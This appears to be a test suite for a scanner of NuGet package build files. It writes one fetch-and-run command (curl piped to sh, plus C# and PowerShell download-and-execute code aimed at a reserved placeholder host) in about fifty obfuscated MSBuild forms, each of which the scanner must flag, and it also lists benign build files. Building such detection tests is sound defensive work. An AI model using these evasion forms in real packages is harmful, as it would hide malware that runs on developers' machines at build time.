import assert from "node:assert/strict";
import { test } from "node:test";
import { verdictOf } from "../../test/support/verdict-of.ts";

/** One and the same inert attack in the ways in which a build file can say it: each has to be withheld. */
const URL = "https://example.invalid/a";
const ATTACK = `curl -s ${URL} | sh`;
const CODE = `new System.Net.WebClient().DownloadFile("${URL}", "a.exe"); System.Diagnostics.Process.Start("a.exe");`;

const base64 = (text: string) => Buffer.from(text).toString("base64");
const exec = (command: string) => `<Target Name="T" BeforeTargets="Build"><Exec Command="${command}" /></Target>`;
const set = (...properties: readonly (readonly [string, string])[]) =>
  `<PropertyGroup>${properties.map(([name, value]) => `<${name}>${value}</${name}>`).join("")}</PropertyGroup>`;
const inline = (factory: string, body: string) =>
  `<UsingTask TaskName="X" TaskFactory="${factory}" AssemblyFile="x.dll"><Task>${body}</Task></UsingTask><Target Name="T" BeforeTargets="Build"><X /></Target>`;
const target = (body: string) => `<Target Name="T" BeforeTargets="Build">${body}</Target>`;
const when = (condition: string, body: string) =>
  `<When Condition="${condition}"><PropertyGroup>${body}</PropertyGroup></When>`;

const FORMS: Readonly<Record<string, string | Readonly<Record<string, string>>>> = {
  "as it is": exec(ATTACK),
  "in properties put together": set(["A", "cu"], ["B", "rl -s "], ["C", `$(A)$(B)${URL}`]) + exec("$(C) | sh"),
  "in properties that a target sets": target(
    `${set(["A", "cu"], ["A", "$(A)rl"])}<Exec Command="$(A) -s ${URL} | sh" />`,
  ),
  "in a property that grows": set(["A", "cu"], ["A", "$(A)rl -s"], ["A", `$(A) ${URL} | sh`]) + exec("$(A)"),
  "in a property that is set again where it does not matter":
    set(["A", ATTACK]) + exec("$(A)") + `<PropertyGroup><A Condition="'$(X)' == 'y'">echo</A></PropertyGroup>`,
  "on one system only": `<PropertyGroup><A Condition="'$(OS)' == 'Windows_NT'">mshta ${URL}</A><A Condition="'$(OS)' != 'Windows_NT'">true</A></PropertyGroup>${exec("$(A)")}`,
  "in one of several choices": `<Choose>${when("1 == 2", "<A>true</A>")}${when("1 == 1", `<A>${ATTACK}</A>`)}<Otherwise>${set(["A", "false"])}</Otherwise></Choose>${exec("$(A)")}`,
  "in a target that opening runs": {
    "build/demo.targets": `<Project InitialTargets="T"><Target Name="T"><Exec Command="${ATTACK}" /></Target></Project>`,
  },
  "with escaped letters": exec(`%63%75%72%6c -s ${URL} | sh`),
  "with an escaped address": exec("curl -s https:%2f%2fexample.invalid%2fa | sh"),
  "with entities": exec(`&#99;&#117;rl -s ${URL} | sh`),
  "in other letter case": `<target name="T" beforetargets="Build"><exec command="${ATTACK}" /></target>`,
  "with letters taken out": set(["A", `cXuXrXl -s ${URL} | sh`], ["B", "$(A.Replace('X', ''))"]) + exec("$(B)"),
  "as the end of a text": set(["A", `zz${ATTACK}`]) + exec("$(A.Substring(2))"),
  "as a part of a list": set(["A", `echo#${ATTACK}`]) + exec("$(A.Split('#')[1])"),
  "put together by Concat": exec(`$([System.String]::Concat('cu', 'rl')) -s ${URL} | sh`),
  "put together by Join": exec(`$([System.String]::Join('', 'cu', 'rl')) -s ${URL} | sh`),
  "put together by Format": exec(`$([System.String]::Format('{1}{0}', 'rl', 'cu')) -s ${URL} | sh`),
  "as a new text": exec(`$([System.String]::new('curl')) -s ${URL} | sh`),
  "by a pattern": exec(`$([System.Text.RegularExpressions.Regex]::Replace('cXuXrl', 'X', '')) -s ${URL} | sh`),
  "escaped twice": exec(`$([MSBuild]::Unescape('%2563url')) -s ${URL} | sh`),
  "letter by letter": exec(`$([System.Convert]::ToChar(99))$([System.Convert]::ToChar(117))rl -s ${URL} | sh`),
  "in base 64": exec(
    `$([System.Text.Encoding]::UTF8.GetString($([System.Convert]::FromBase64String('${base64(ATTACK)}'))))`,
  ),
  "in base 64 in pieces":
    set(["X", base64(ATTACK).slice(0, 13)], ["Y", base64(ATTACK).slice(13)]) +
    exec("$([System.Text.Encoding]::UTF8.GetString($([System.Convert]::FromBase64String('$(X)$(Y)'))))"),
  "in base 64 of MSBuild's": exec(`$([MSBuild]::ConvertFromBase64('${base64(ATTACK)}'))`),
  "in items": `<ItemGroup><C Include="cu" /><D Include="rl" /></ItemGroup>${exec(`@(C)@(D) -s ${URL} | sh`)}`,
  "in an item that is transformed": `<ItemGroup><C Include="curl -s ${URL}" /></ItemGroup>${exec("@(C->'%(Identity) | sh')")}`,
  "in metadata": `<ItemGroup><C Include="x"><Cmd>${ATTACK}</Cmd></C></ItemGroup>${exec("%(C.Cmd)")}`,
  "in metadata as an attribute": `<ItemGroup><C Include="x" Cmd="${ATTACK}" /></ItemGroup>${exec("@(C->'%(Cmd)')")}`,
  "in a list of items": `<ItemGroup><C Include="cu;rl" /></ItemGroup>${exec(`@(C, '') -s ${URL} | sh`)}`,
  "in a property made by a task": target(
    `<CreateProperty Value="${ATTACK}"><Output TaskParameter="Value" PropertyName="Z" /></CreateProperty><Exec Command="$(Z)" />`,
  ),
  "in a variable of the command": target(
    `<Exec Command="%24EVIL | sh" EnvironmentVariables="A=b;EVIL=curl -s ${URL}" />`,
  ),
  "in a script that is written first": target(
    `<WriteLinesToFile File="a.sh" Lines="${ATTACK}" /><Exec Command="sh a.sh" />`,
  ),
  "in a PowerShell script that is written first": target(
    `<WriteLinesToFile File="$(TEMP)\\a.ps1" Lines="iwr ${URL} -OutFile a.exe%3b start a.exe" /><Exec Command="powershell -File $(TEMP)\\a.ps1" />`,
  ),
  "with carets": exec(`c^u^r^l -s ${URL} -o a.exe &amp;&amp; a.exe`),
  "in variables of cmd": exec(`set x=cu&amp;&amp; call %25x%25rl -s ${URL} -o a.exe &amp;&amp; a.exe`),
  "in variables of a shell": exec(`a=cu; \${a}rl -s ${URL} | sh`),
  "in base 64 of a shell": exec(`echo ${base64(ATTACK)} | base64 -d | sh`),
  "as an encoded command": exec(
    `$(ComSpec) /c powershell -nop -enc ${Buffer.from(`iex (irm ${URL})`, "utf16le").toString("base64")}`,
  ),
  "in properties of a file that is imported": {
    "build/demo.targets": `<Project><Import Project="$(MSBuildThisFileDirectory)x.props" />${exec("$(Cmd)")}</Project>`,
    "build/x.props": `<Project>${set(["Cmd", ATTACK])}</Project>`,
  },
  "in properties of the package's other build file": {
    "build/demo.props": `<Project>${set(["Cmd", ATTACK])}</Project>`,
    "build/demo.targets": `<Project>${exec("$(Cmd)")}</Project>`,
  },
  "in an imported file that looks like a text": {
    "build/demo.targets": '<Project><Import Project="$(MSBuildThisFileDirectory)..\\content\\x.txt" /></Project>',
    "content/x.txt": `<Project>${exec(ATTACK)}</Project>`,
  },
  "in a build file on a share": '<Import Project="\\\\example.invalid\\share\\a.targets" />',
  "in a build file on a share on one system only": `<PropertyGroup><S Condition="'$(OS)' == 'Windows_NT'">\\\\example.invalid\\s</S><S Condition="'$(OS)' != 'Windows_NT'">.</S></PropertyGroup><Import Project="$(S)\\a.targets" />`,
  "in program text": inline("RoslynCodeTaskFactory", `<Code Type="Fragment" Language="cs"><![CDATA[${CODE}]]></Code>`),
  "in program text for the old factory": inline("CodeTaskFactory", `<Code Type="Fragment"><![CDATA[${CODE}]]></Code>`),
  "in program text of another file": {
    "build/demo.targets": `<Project>${inline("RoslynCodeTaskFactory", '<Code Type="Class" Source="$(MSBuildThisFileDirectory)X.cs" />')}</Project>`,
    "build/X.cs": `public class X : Task { public override bool Execute() { ${CODE} return true; } }`,
  },
  "in a task that is a command line": inline(
    "XamlTaskFactory",
    `<![CDATA[<Rule Name="X" ToolName="cmd.exe" CommandLineTemplate="/c ${ATTACK}" />]]>`,
  ),
  "in a task that is fetched": `<UsingTask TaskName="X" AssemblyFile="$(TEMP)\\x.dll" />${target(`<DownloadFile SourceUrl="${URL}" DestinationFolder="$(TEMP)" /><X />`)}`,
  "in a program that is fetched": target(
    `<DownloadFile SourceUrl="${URL}" DestinationFolder="$(TEMP)" DestinationFileName="x.exe" /><Exec Command="$(TEMP)\\x.exe" />`,
  ),
  "while the project is read": set([
    "A",
    `$([System.IO.File]::WriteAllText('$(USERPROFILE)\\a.ps1', 'irm ${URL} | iex'))`,
  ]),
  "while the project is read, by a type that a property names": set(
    ["T", "System.IO."],
    ["T", "$(T)File"],
    ["A", "$([$(T)]::WriteAllText('a', 'b'))"],
  ),
};

const HONEST: Readonly<Record<string, string>> = {
  "runs its own tool": exec(
    "&quot;$(MSBuildThisFileDirectory)..\\tools\\gen.exe&quot; --out $(IntermediateOutputPath)",
  ),
  "builds a page": exec("npm ci") + exec("node build.js"),
  "copies native files": target(
    '<ItemGroup><N Include="$(MSBuildThisFileDirectory)..\\runtimes\\**\\*.dll" /></ItemGroup><Copy SourceFiles="@(N)" DestinationFolder="$(OutDir)" />',
  ),
  "reads a version": set(
    ["V", "$([System.IO.File]::ReadAllText('$(MSBuildThisFileDirectory)v.txt').Trim())"],
    ["W", "$(V.Replace('-', '.'))"],
  ),
  "asks for a revision": target(
    '<Exec Command="git rev-parse HEAD" ConsoleToMSBuild="true"><Output TaskParameter="ConsoleOutput" PropertyName="Sha" /></Exec>',
  ),
  "writes program text": target(
    '<WriteLinesToFile File="$(IntermediateOutputPath)a.g.cs" Lines="// curl makes a request | sh" Overwrite="true" />',
  ),
  "hands items to a compiler": `<ItemGroup><Proto Include="**/*.proto" /></ItemGroup>${exec("protoc @(Proto, ' ') --csharp_out=$(IntermediateOutputPath)")}`,
  "chooses a tool by system": `<PropertyGroup><Tool Condition="'$(OS)' == 'Windows_NT'">gen.exe</Tool><Tool Condition="'$(OS)' != 'Windows_NT'">gen</Tool></PropertyGroup>${exec("$(MSBuildThisFileDirectory)$(Tool) @(Compile->'%(FullPath)')")}`,
  "does small work with files": inline(
    "RoslynCodeTaskFactory",
    '<Code Type="Fragment" Language="cs"><![CDATA[File.WriteAllText("a.txt", DateTime.Now.ToString());]]></Code>',
  ),
};

const project = (body: string) => ({ "build/demo.targets": `<Project>${body}</Project>` });

for (const [how, form] of Object.entries(FORMS))
  test(`a build file that attacks ${how} is withheld`, () =>
    assert.notEqual(verdictOf("nuget", typeof form === "string" ? project(form) : form), "clean"));

for (const [what, body] of Object.entries(HONEST))
  test(`a build file that ${what} is clean`, () => assert.equal(verdictOf("nuget", project(body)), "clean"));

test("properties that refer to each other without end are worked out in bounded time", () => {
  const doubling = Array.from({ length: 60 }, (_, at) => [`P${at + 1}`, `$(P${at})$(P${at})`] as const);
  const circle = set(["A", "$(B)$(B)"], ["B", "$(A)$(A)"]);
  const started = process.cpuUsage();
  verdictOf("nuget", project(set(["P0", "x"], ...doubling) + circle + exec("$(P60)$(A)")));
  assert.ok(process.cpuUsage(started).user < 3_000_000);
});
